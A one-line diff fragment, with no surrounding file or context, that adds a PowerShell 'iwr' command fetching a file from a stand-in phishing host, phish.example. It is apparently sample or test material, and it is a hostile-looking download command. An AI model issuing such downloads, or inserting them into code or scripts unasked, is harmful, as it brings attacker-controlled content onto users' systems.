@@ -1,0 +1,1 @@
+iwr http://phish.example/x
